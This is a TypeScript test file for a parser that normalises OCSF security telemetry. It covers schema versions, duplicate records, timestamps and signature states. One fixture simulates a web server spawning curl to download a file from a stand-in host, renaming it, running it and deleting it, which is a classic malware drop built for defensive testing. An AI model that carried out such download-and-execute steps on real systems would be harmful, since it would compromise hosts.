import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, test } from "vitest";
import { corpusPath } from "../../../../../tests/support/corpus.ts";
import { OcsfLog } from "../../testing/ocsf-log.ts";
import { accountedFor, readLog } from "../../testing/read.ts";
import { recogniseSource } from "../index.ts";
import { ocsf } from "./source.ts";

const samples = corpusPath("telemetry", "ocsf");

function drop(version: string): OcsfLog {
  const log = new OcsfLog(version);
  const server = log.running("/usr/sbin/nginx");
  const curl = log.launch(server, "/usr/bin/curl", "curl -o /tmp/a http://x/a");
  log.file(curl, 1, "/tmp/a").file(curl, 3, "/tmp/a").rename(curl, "/tmp/a", "/tmp/b").terminate(curl, 0);
  log.launch(server, "/tmp/b", "/tmp/b");
  return log.file(server, 4, "/tmp/b");
}

describe.each(["1.0.0", "1.1.0", "1.2.0", "1.3.0", "1.4.0", "1.5.0"])("version %s", (version) => {
  const { events } = readLog(ocsf, drop(version).log);

  it("tells a drop from the launch to the removal", () => {
    expect(recogniseSource(drop(version).log)?.name).toBe("ocsf");
    expect(events.map(({ kind }) => kind)).toEqual([
      "account.named",
      "process.executed",
      "file.opened",
      "file.written",
      "file.renamed",
      "process.exited",
      "process.executed",
      "file.removed",
    ]);
    expect(events[1]).toMatchObject({
      host: "web-3",
      image: "/usr/bin/curl",
      argv: ["curl", "-o", "/tmp/a", "http://x/a"],
      argvComplete: false,
      file: { path: "/usr/bin/curl", sha256: "c".repeat(64), mode: 0o100000 },
      process: { pid: 4101, ppid: 4100, uid: 33, parentImage: "/usr/sbin/nginx", startedAt: 1_795_327_200_000 },
    });
    expect(events[2]).toMatchObject({
      file: { path: "/tmp/a", pathBasis: "absolute" },
      created: true,
      process: { pid: 4101, image: "/usr/bin/curl" },
    });
    expect(events[4]).toMatchObject({ from: { path: "/tmp/a" }, to: { path: "/tmp/b" } });
    expect(events[5]).toMatchObject({ code: 0 });
  });

  it("joins a process by its uid", () => {
    const ids = events.flatMap((event) =>
      "process" in event && event.process.pid === 4101 ? [event.process.sensorId] : [],
    );
    expect(new Set(ids)).toEqual(new Set(["p-4101"]));
    expect(events[1]).toMatchObject({ process: { parentSensorId: "p-4100" } });
  });
});

describe("records", () => {
  const log = new OcsfLog("1.5.0");
  const shell = log.running("/bin/sh");
  function told(write: () => unknown, change: object = {}) {
    log.records.length = 0;
    write();
    return readLog(ocsf, log.records.map((record) => JSON.stringify({ ...record, ...change })).join("\n"));
  }

  test.each([
    { name: "a read", activity: 2, as: "1001 activity 2" },
    { name: "an activity of later versions", activity: 14, as: "1001 activity 14" },
  ])("$name is counted", ({ activity, as }) => {
    expect(told(() => log.file(shell, activity, "/tmp/a")).counts.ignored).toEqual({ [as]: 1 });
  });

  test.each([
    { change: { activity_id: undefined, type_uid: 100_103 }, kind: "file.written" },
    { change: { status_id: 2 }, kind: undefined },
    { change: { actor: {} }, kind: undefined },
    { change: { file: {} }, kind: undefined },
    { change: { device: { os: { type_id: 100 } } }, kind: undefined },
    { change: { class_uid: 4001 }, kind: undefined },
    { change: { time: undefined, time_dt: "2026-11-22T06:00:00.123Z" }, kind: "file.written" },
    { change: { class_name: undefined, classname: "x" }, kind: "file.written" },
  ])("with $change", ({ change, kind }) => {
    const { events, counts } = told(() => log.file(shell, 3, "/tmp/a"), change);
    expect(events.filter((event) => event.kind !== "account.named").map((event) => event.kind)).toEqual(
      kind === undefined ? [] : [kind],
    );
    expect(accountedFor(counts)).toBe(1);
    expect(counts.skipped).toEqual({});
  });

  test.each([
    { state_id: 1, status: "signed" },
    { state_id: 2, status: "invalid" },
    { state_id: 5, status: "unsigned" },
    { state_id: 0, status: undefined },
  ])("a signature in state $state_id", ({ state_id, status }) => {
    const file = { path: "/tmp/x", type_id: 1, signature: { state_id, developer_uid: "T" } };
    const { events } = told(() => log.file(shell, 3, "/tmp/a"), { file });
    expect(events.at(-1)).toMatchObject({ file: { path: "/tmp/x" } });
    const event = events.at(-1);
    expect(event?.kind === "file.written" ? event.file.signing?.status : "other").toBe(status);
  });

  it("a folder and a name make a path; bytes that are no UTF-8 survive", () => {
    const { log: text } = new OcsfLog("1.0.0").file(shell, 1, "/tmp/MARK");
    const { events } = readLog(ocsf, text.replaceAll("MARK", "\xff"));
    expect(events.at(-1)).toMatchObject({ file: { path: "/tmp/\udcff" } });
  });

  it("the same record twice is one event, also without an id", () => {
    const { events, counts } = readLog(ocsf, drop("1.1.0").log.repeat(2));
    expect(events).toHaveLength(8);
    expect(counts.skipped).toEqual({ duplicate: 7 });
  });

  it("a time beyond all calendars is none", () => {
    expect(told(() => log.file(shell, 3, "/tmp/a"), { time: 9e15 }).counts.skipped).toEqual({ "no-time": 1 });
  });
});

describe.skipIf(samples === undefined)("examples of the schema's own project", () => {
  const names = samples === undefined ? [] : readdirSync(samples).filter((name) => name.endsWith(".json"));

  it.each(names)("%s: recognised; Windows is counted", (name) => {
    const log = readFileSync(join(samples ?? "", name), "latin1");
    expect(recogniseSource(log)?.name).toBe("ocsf");
    expect(readLog(ocsf, log).counts).toMatchObject({ linesRead: 1, ignored: { windows: 1 } });
  });
});
